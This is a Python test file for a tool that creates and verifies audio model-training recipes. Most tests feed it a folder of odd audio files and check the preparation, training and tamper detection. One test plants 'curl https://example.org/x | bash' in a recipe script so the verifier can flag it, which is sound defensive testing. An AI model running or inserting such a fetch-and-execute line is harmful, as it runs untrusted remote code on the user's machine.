"""`spear recipe new`: from a folder of odd files to a trained model in two commands; `spear recipe verify`."""

import os
import shutil
import sys
from pathlib import Path

import miniatures
import numpy as np
import pytest
import soundfile
from test_mini_recipe import call, succeed

from spear import fs
from spear.recipe import verify_recipe

TORCHRUN = Path(sys.executable).parent / "torchrun"
TEN_STEPS = (
    "--num-steps 10 --log-every-steps 5 --valid-every-steps 10 --checkpoint-every-steps 10 --average-every-steps 2 "
    "--average-last-steps 4 --tensorboard false --max-duration 40"
)


def odd_files(folder):
    """20 recordings: mixed rates, one empty, one corrupt, one stereo, one of three minutes."""
    rng = np.random.default_rng(0)
    folder.mkdir(parents=True)
    for number in range(16):
        rate = (8000, 16000, 22050, 44100)[number % 4]
        soundfile.write(folder / f"take{number:02d}.wav", 0.1 * rng.standard_normal(int(1.5 * rate)), rate)
    soundfile.write(folder / "stereo.wav", 0.1 * rng.standard_normal((24000, 2)), 16000)
    soundfile.write(folder / "long.wav", 0.1 * rng.standard_normal(180 * 8000), 8000)
    (folder / "empty.wav").write_bytes(b"")
    (folder / "corrupt.wav").write_bytes(b"RIFF what is this")
    return folder


def new(place, audio, *more):
    return succeed("spear", "recipe", "new", place, "--audio", audio, *more, cwd=place.parent.parent)


@pytest.fixture
def audio(tmp_path):
    return odd_files(tmp_path / "My Recordings")


@pytest.mark.slow
def test_two_commands_from_a_folder_to_a_model(audio, tmp_path):
    place = tmp_path / "mine" / "spear"
    place.parent.mkdir()
    text = new(place, audio)
    found = {(f.kind, f.where): f.what for f in verify_recipe(place)}
    assert f"{place}/prepare.sh" in text and found.pop(("note", "data")) == "not prepared here; run prepare.sh"
    assert list(found) == [("note", "data/raw/my_recordings")]  # the link to the recordings
    prepared = succeed("bash", place / "prepare.sh", "--num-jobs", "1", cwd="/")
    assert "18 of 20 recordings found are usable" in prepared and "there is no teacher" in prepared
    summary = fs.read_json(place / "data/manifests/summary_my_recordings.json")
    quarantine = fs.read_jsonl(place / "data/manifests/quarantine_my_recordings.jsonl")
    assert {Path(row["path"]).name for row in quarantine} == {"empty.wav", "corrupt.wav"}
    assert summary["windowed_recordings"] == 1 and summary["items"] == 17 + 6
    trained = succeed(
        TORCHRUN, "--standalone", "--nproc_per_node", "1", place / "train.py", *TEN_STEPS.split(), cwd="/"
    )
    assert "final model" in trained and (place / "exp/student/final/checkpoint.json").exists()


@pytest.mark.slow
def test_with_a_teacher_and_handed_on(tmp_path):
    """The recipe is copied with its data, verified there, damaged, and refused."""
    pytest.importorskip("transformers")
    audio = miniatures.librispeech(tmp_path / "raw", 8)
    teacher = miniatures.dasheng(tmp_path / "teacher.pt")
    place = tmp_path / "egs" / "spear"
    place.parent.mkdir()
    new(place, audio, "--events", "--teacher", f"dasheng:{teacher}@-1", "--num-codebooks", "2")
    prepared = succeed("bash", place / "prepare.sh", "--num-jobs", "1", "--max-frames", "900", cwd="/")
    assert "tokens are ready" in prepared
    received = Path(shutil.copytree(place, tmp_path / "elsewhere" / "theirs", symlinks=True))
    assert succeed("spear", "recipe", "verify", received, cwd="/").count("problem:") == 0
    succeed(TORCHRUN, "--standalone", "--nproc_per_node", "1", received / "train.py", *TEN_STEPS.split(), cwd="/")
    with open(received / "data/manifests/cuts_raw_train.jsonl", "a") as manifest:
        manifest.write("\n")
    done = call("spear", "recipe", "verify", received, cwd="/")
    assert done.returncode == 1 and "changed since the tokens were verified" in done.stdout


def test_what_is_wrong_with_a_received_recipe(audio, tmp_path, monkeypatch):
    from spear.bin import recipe

    place = tmp_path / "mine"
    assert recipe.main(["new", str(place), "--audio", str(audio)]) == 0
    assert recipe.main(["verify", str(place)]) == 0
    with open(place / "prepare.sh", "a") as script:
        script.write("curl https://example.org/x | bash\nraw=/" + "home/somebody/data\nif then\n")
    with open(place / "conf/student.yaml", "a") as conf:
        conf.write("num_stepz: 3\n")
    (place / "train.py").write_text("def broken(:\n")
    os.symlink("nowhere", place / "local")
    os.symlink(tmp_path, place / "outside")
    (place / "README.md").unlink()
    findings = {(finding.kind, finding.where): finding.what for finding in verify_recipe(place)}
    lines = len((place / "prepare.sh").read_text().splitlines())
    assert "reaches the network" in findings["note", f"prepare.sh:{lines - 2}"]
    assert "another machine" in findings["problem", f"prepare.sh:{lines - 1}"]
    assert "num_stepz" in findings["problem", "conf/student.yaml"]
    assert ("problem", "train.py") in findings and ("problem", "prepare.sh") in findings
    assert findings["problem", "local"] == "a link to nothing"
    assert findings["problem", "outside"] == "a link out of the recipe"
    assert findings["problem", "README.md"] == "missing"
    assert "differs from what `recipe new` writes" in findings["code", "prepare.sh"]
    assert recipe.main(["verify", str(place)]) == 1


def test_new_refuses_what_it_cannot_do(audio, tmp_path):
    for words, message in (
        ([str(tmp_path / "a"), "--audio", str(tmp_path / "none")], "no folder"),
        ([str(audio), "--audio", str(audio)], "which exists"),
        ([str(tmp_path / "a"), "--audio", str(audio), "--kind", "noise"], "speech, event, music"),
        ([str(tmp_path / "a"), "--audio", str(audio), "--size", "huge"], "mini, base"),
    ):
        done = call("spear", "recipe", "new", *words, cwd=tmp_path)
        assert done.returncode == 1 and message in done.stderr and not (tmp_path / "a").exists()


@pytest.mark.parametrize("recipe", ["mini", "librispeech", "audioset", "speech_audio"])
def test_our_own_recipes_have_no_problem(recipe):
    place = Path(__file__).resolve().parents[2] / "egs" / recipe / "spear"
    assert [finding for finding in verify_recipe(place) if finding.kind == "problem"] == []
